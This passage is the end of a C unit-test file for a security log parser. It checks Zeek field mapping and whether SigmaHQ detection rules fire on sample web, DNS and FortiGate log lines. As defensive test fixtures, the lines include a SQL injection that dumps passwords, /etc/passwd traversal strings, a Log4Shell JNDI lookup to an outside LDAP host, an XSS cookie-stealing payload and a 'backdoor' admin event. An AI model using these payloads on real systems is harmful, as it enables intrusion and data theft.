            } else if ((v = col(names, vals, nn, "id.resp_p")) != NULL &&
                       iv(ev, "destination.port") != strtoll(v, NULL, 10)) {
                bad = "destination.port";
            } else if ((v = col(names, vals, nn, "proto")) != NULL && strcmp(sv(ev, "network.transport"), v) != 0) {
                bad = "network.transport";
            } else if (strcmp(logpath, "dns") == 0 && (v = col(names, vals, nn, "query")) != NULL &&
                       strcmp(sv(ev, "dns.question.name"), zeek_unescape(v, tmp)) != 0) {
                bad = "dns.question.name";
            } else if (strcmp(logpath, "dns") == 0 && (v = col(names, vals, nn, "rcode_name")) != NULL &&
                       strcmp(sv(ev, "dns.response_code"), v) != 0) {
                bad = "dns.response_code";
            } else if (strcmp(logpath, "http") == 0 && (v = col(names, vals, nn, "method")) != NULL &&
                       strcmp(sv(ev, "http.request.method"), zeek_unescape(v, tmp)) != 0) {
                bad = "http.request.method";
            } else if (strcmp(logpath, "http") == 0 && (v = col(names, vals, nn, "uri")) != NULL &&
                       strcmp(v, "(empty)") != 0 && strcmp(sv(ev, "url.original"), zeek_unescape(v, tmp)) != 0) {
                bad = "url.original";
            } else if (strcmp(logpath, "http") == 0 && (v = col(names, vals, nn, "status_code")) != NULL &&
                       iv(ev, "http.response.status_code") != strtoll(v, NULL, 10)) {
                bad = "http.response.status_code";
            } else if (strcmp(logpath, "ssl") == 0 && (v = col(names, vals, nn, "server_name")) != NULL &&
                       strcmp(sv(ev, "tls.client.server_name"), v) != 0) {
                bad = "tls.client.server_name";
            } else if (strcmp(logpath, "conn") == 0 && (v = col(names, vals, nn, "conn_state")) != NULL &&
                       strcmp(sv(ev, "citysoc.flow.state"), v) != 0) {
                bad = "citysoc.flow.state";
            }
            if (bad == NULL) {
                t->ok++;
            } else {
                printf("  zeek %s/%s: %s differs: %s\n", test, log, bad, js);
            }
            cs_event_free(ev);
            free(js);
        }
    }
    free(txt);
}

static void test_zeek_baselines(void **state)
{
    static const char *const logs[][2] = {
        {"scripts.base.protocols.dns.flip", "dns.log"},
        {"scripts.base.protocols.dns.spf", "dns.log"},
        {"scripts.base.protocols.dns.rrsig", "dns.log"},
        {"scripts.base.protocols.dns.zero-responses", "dns.log"},
        {"scripts.base.protocols.http.http-methods", "http.log"},
        {"scripts.base.protocols.http.http-pipelining", "http.log"},
        {"core.vlan-mpls", "conn.log"},
        {"core.vlan-mpls", "http.log"},
        {"scripts.base.protocols.ftp.ftp-ipv4", "conn.log"},
        {"scripts.base.protocols.ftp.ftp-ipv4", "ftp.log"},
        {"scripts.base.protocols.ssh.ssh_version_199", "ssh.log"},
        {"scripts.policy.protocols.ssl.validate-certs-no-cache", "ssl.log"},
        {"scripts.base.protocols.dhcp.dhcp-all-msg-types", "dhcp.log"},
        {"scripts.base.protocols.dce-rpc.context", "dce_rpc.log"},
        {"scripts.base.protocols.smb.smb2-read-write", "smb_files.log"},
        {"scripts.base.protocols.rdp.rdp-to-ssl", "rdp.log"},
        {"scripts.policy.protocols.krb.ticket-logging", "kerberos.log"},
        {"scripts.policy.protocols.ssh.detect-bruteforcing", "notice.log"},
        {"scripts.base.protocols.snmp.v3", "snmp.log"},
        {"scripts.base.protocols.socks.socks-auth", "socks.log"},
        {"core.tunnels.vxlan", "tunnel.log"},
    };
    char dir[1024];
    zeek_tally t = {0, 0};
    (void)state;
    snprintf(dir, sizeof dir, "%s/zeek", data_dir());
    NEED_DATA(dir);
    for (size_t i = 0; i < sizeof logs / sizeof logs[0]; i++) {
        zeek_log(logs[i][0], logs[i][1], &t);
    }
    printf("Zeek baselines as JSON: %zu/%zu records mapped (5-tuple, log path, protocol fields)\n", t.ok, t.records);
    assert_true(t.records >= 50);
    assert_int_equal(t.ok, t.records);
}

/* ------------------------------------------------------ Sigma, e2e ---- */

typedef struct rule_errs {
    int refused;
} rule_errs;

static void on_rule_err(const char *msg, void *ud)
{
    ((rule_errs *)ud)->refused++;
    printf("  rule refused: %s\n", msg);
}

/* How many rules match the parsed line; *hit: whether want_id is one of them. */
static size_t web_hits(const cs_ruleset *rs, parse_fn fn, const char *line, const char *want_id, bool *hit)
{
    cs_event *ev = parse(fn, line);
    size_t n = 0;
    *hit = false;
    for (size_t i = 0; i < cs_ruleset_count(rs); i++) {
        const cs_rule *r = cs_ruleset_rule(rs, i);
        if (cs_rule_match(r, ev)) {
            n++;
            *hit |= want_id != NULL && strcmp(cs_rule_get_info(r)->id, want_id) == 0;
        }
    }
    cs_event_free(ev);
    return n;
}

typedef struct sigma_tally {
    const cs_ruleset *rs;
    size_t lines, matched;
} sigma_tally;

static void sigma_ossec(const char *line, size_t len, void *ud)
{
    sigma_tally *t = ud;
    cs_event *ev = NULL;
    bool any = false;
    if (memmem(line, len, "] \"", 3) == NULL) {
        return;
    }
    assert_int_equal(cs_parse_access(line, len, &ctx0, &ev), CS_OK);
    for (size_t i = 0; i < cs_ruleset_count(t->rs); i++) {
        const cs_rule *r = cs_ruleset_rule(t->rs, i);
        if (cs_rule_match(r, ev)) {
            printf("  \"%s\" <- %.*s\n", cs_rule_get_info(r)->title, (int)len, line);
            any = true;
        }
    }
    t->lines++;
    t->matched += any;
    cs_event_free(ev);
}

static cs_ruleset *load_rules(const char *const *files, size_t nfiles)
{
    cs_ruleset *rs = NULL;
    rule_errs e = {0};
    char path[1024];
    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
    for (size_t i = 0; i < nfiles; i++) {
        snprintf(path, sizeof path, "%s/sigma/%s", data_dir(), files[i]);
        assert_int_equal(cs_ruleset_load_path(rs, path, on_rule_err, &e), CS_OK);
    }
    return rs;
}

static const char *const sqli_id = "5513deaf-f49a-46c2-a6c8-3f111b5cb453";
static const char *const traversal_id = "7745c2ea-24a5-4290-b680-04359cb84b35";
static const char *const cve_41773_id = "3007fec6-e761-4319-91af-e32e20ac43f5";
static const char *const log4j_id = "5ea8faa8-db8b-45be-89b0-151b84c82702";
static const char *const recon_ua_id = "19aa4f58-94ca-45ff-bc34-92e533c0994a";

static void test_sigma_web(void **state)
{
    static const char *const files[] = {
        "rules/web/webserver_generic",
        "rules-emerging-threats/2021/Exploits/CVE-2021-41773/web_cve_2021_41773_apache_path_traversal.yml",
        "rules-emerging-threats/2021/Exploits/CVE-2021-44228/web_cve_2021_44228_log4j.yml",
    };
    static const struct {
        const char *line;
        const char *const *id;
    } attacks[] = {
        {"203.0.113.45 - - [12/Mar/2026:08:14:03 +0000] \"GET /search.php?id=1%20UNION%20SELECT%20username,"
         "password%20FROM%20users HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"",
         &sqli_id},
        {"203.0.113.45 - - [12/Mar/2026:08:14:04 +0000] \"GET /download.php?file=../../../etc/passwd HTTP/1.1\" "
         "200 1024 \"-\" \"Mozilla/5.0\"",
         &traversal_id},
        {"203.0.113.45 - - [12/Mar/2026:08:14:05 +0000] \"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\" "
         "200 1180 \"-\" \"curl/7.79.1\"",
         &cve_41773_id},
        {"203.0.113.45 - - [12/Mar/2026:08:14:06 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" "
         "\"${jndi:ldap://198.51.100.7:1389/Exploit}\"",
         &log4j_id},
        {"203.0.113.45 - - [12/Mar/2026:08:14:07 +0000] \"GET /admin HTTP/1.1\" 404 0 \"-\" "
         "\"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)\"",
         &recon_ua_id},
    };
    static const struct {
        const char *line;
        const char *const *id;   /* NULL: no rule at all may match */
    } benign[] = {
        {"10.0.0.5 - - [12/Mar/2026:08:15:00 +0000] \"GET /index.html HTTP/1.1\" 200 4617 \"-\" \"Mozilla/5.0 (X11)\"",
         NULL},
        {"10.0.0.5 - - [12/Mar/2026:08:15:01 +0000] \"GET /search.php?q=city+hall+opening+hours HTTP/1.1\" 200 812 "
         "\"https://portal.city.example/\" \"Mozilla/5.0 (X11)\"",
         NULL},
        /* the SQLi rule leaves out 404s */
        {"203.0.113.45 - - [12/Mar/2026:08:14:03 +0000] \"GET /search.php?id=1%20UNION%20SELECT%20x HTTP/1.1\" 404 "
         "0 \"-\" \"Mozilla/5.0\"",
         &sqli_id},
        /* CVE-2021-41773 needs the request to have succeeded */
        {"203.0.113.45 - - [12/Mar/2026:08:14:05 +0000] \"GET /cgi-bin/.%2e/.%2e/etc/passwd HTTP/1.1\" 403 199 "
         "\"-\" \"curl/7.79.1\"",
         &cve_41773_id},
    };
    char dir[1024];
    cs_ruleset *rs;
    bool hit;
    (void)state;
    snprintf(dir, sizeof dir, "%s/sigma/rules/web/webserver_generic", data_dir());
    NEED_DATA(dir);
    rs = load_rules(files, sizeof files / sizeof files[0]);
    printf("SigmaHQ webserver rules loaded: %zu\n", cs_ruleset_count(rs));
    assert_true(cs_ruleset_count(rs) >= 10);
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
        size_t n = web_hits(rs, cs_parse_access, attacks[i].line, *attacks[i].id, &hit);
        if (!hit) {
            fail_msg("rule %s did not match: %s (%zu other matches)", *attacks[i].id, attacks[i].line, n);
        }
    }
    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
        size_t n = web_hits(rs, cs_parse_access, benign[i].line, benign[i].id ? *benign[i].id : NULL, &hit);
        if (benign[i].id == NULL ? n != 0 : hit) {
            fail_msg("benign line matched %zu rule(s): %s", n, benign[i].line);
        }
    }
    {
        /* a real scanner line from OSSEC's web tests */
        const char *ossec_xss = "11.22.33.44 - - [01/Aug/2016:05:15:07 +0000] \"GET /ariadne/www/loader.php/system/"
                                "\\x22><iMg src=N onerror=alert(document.cookie)> HTTP/1.1\" 301 178 \"-\" "
                                "\"Mozilla/5.0 [en] (X11, U; OpenVAS 8.0.7)\"";
        size_t n = web_hits(rs, cs_parse_access, ossec_xss, "65354b83-a2ea-4ea6-8414-3ab38be0d409", &hit);
        printf("OSSEC XSS scanner line: %zu SigmaHQ webserver rule(s) match\n", n);
        assert_true(hit);   /* XSS Strings In Access Logs */
    }
    {
        /* every OSSEC access-log test line through the rules, for the record */
        sigma_tally t = {rs, 0, 0};
        ossec_lines("web_rules.ini", sigma_ossec, &t);
        ossec_lines("web_appsec.ini", sigma_ossec, &t);
        printf("OSSEC access-log lines matched by SigmaHQ webserver rules: %zu of %zu\n", t.matched, t.lines);
        assert_true(t.matched >= 1);
    }
    cs_ruleset_free(rs);
}

static void test_sigma_zeek_fortigate(void **state)
{
    static const char *const files[] = {
        "rules/network/zeek/zeek_dns_mining_pools.yml",
        "rules/network/fortinet/fortigate/fortinet_fortigate_new_admin_account_created.yml",
    };
    char f0[1024];
    cs_ruleset *rs;
    bool hit;
    (void)state;
    snprintf(f0, sizeof f0, "%s/sigma/%s", data_dir(), files[0]);
    NEED_DATA(f0);
    rs = load_rules(files, sizeof files / sizeof files[0]);
    assert_int_equal(cs_ruleset_count(rs), 2);
    assert_int_equal(web_hits(rs, cs_parse_json_line,
                              "{\"ts\":1773302400.1,\"uid\":\"C1\",\"id.orig_h\":\"10.20.1.31\",\"id.orig_p\":40000,"
                              "\"id.resp_h\":\"10.20.0.53\",\"id.resp_p\":53,\"proto\":\"udp\",\"trans_id\":1,"
                              "\"query\":\"xmr.supportxmr.com\",\"qtype_name\":\"A\",\"rcode_name\":\"NOERROR\"}",
                              NULL, &hit),
                     1);
    assert_int_equal(web_hits(rs, cs_parse_json_line,
                              "{\"ts\":1773302400.1,\"uid\":\"C1\",\"id.orig_h\":\"10.20.1.31\",\"id.orig_p\":40000,"
                              "\"id.resp_h\":\"10.20.0.53\",\"id.resp_p\":53,\"proto\":\"udp\",\"trans_id\":1,"
                              "\"query\":\"www.city.example\",\"qtype_name\":\"A\",\"rcode_name\":\"NOERROR\"}",
                              NULL, &hit),
                     0);
    assert_int_equal(web_hits(rs, cs_parse_kv,
                              "date=2026-03-12 time=08:00:00 devname=\"FGT-CITY\" devid=\"FG100E\" logid=\"0100044547\" "
                              "type=\"event\" subtype=\"system\" level=\"information\" vd=\"root\" logdesc=\"Object "
                              "attribute configured\" user=\"admin\" ui=\"GUI(10.0.0.9)\" action=\"Add\" cfgtid="
                              "\"1\" cfgpath=\"system.admin\" cfgobj=\"backdoor\" msg=\"Add system.admin backdoor\"",
                              NULL, &hit),
                     1);
    cs_ruleset_free(rs);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_access_combined),
        cmocka_unit_test(test_access_variants),
        cmocka_unit_test(test_access_hostile),
        cmocka_unit_test(test_nginx_error),
        cmocka_unit_test(test_apache_error),
        cmocka_unit_test(test_json_eve),
        cmocka_unit_test(test_json_eve_protocols),
        cmocka_unit_test(test_json_zeek),
        cmocka_unit_test(test_json_other_and_hostile),
        cmocka_unit_test(test_cef),
        cmocka_unit_test(test_cef_variants),
        cmocka_unit_test(test_kv_fortigate),
        cmocka_unit_test(test_kv_variants),
        cmocka_unit_test(test_loghub_apache),
        cmocka_unit_test(test_ossec_web),
        cmocka_unit_test(test_zeek_baselines),
        cmocka_unit_test(test_sigma_web),
        cmocka_unit_test(test_sigma_zeek_fortigate),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
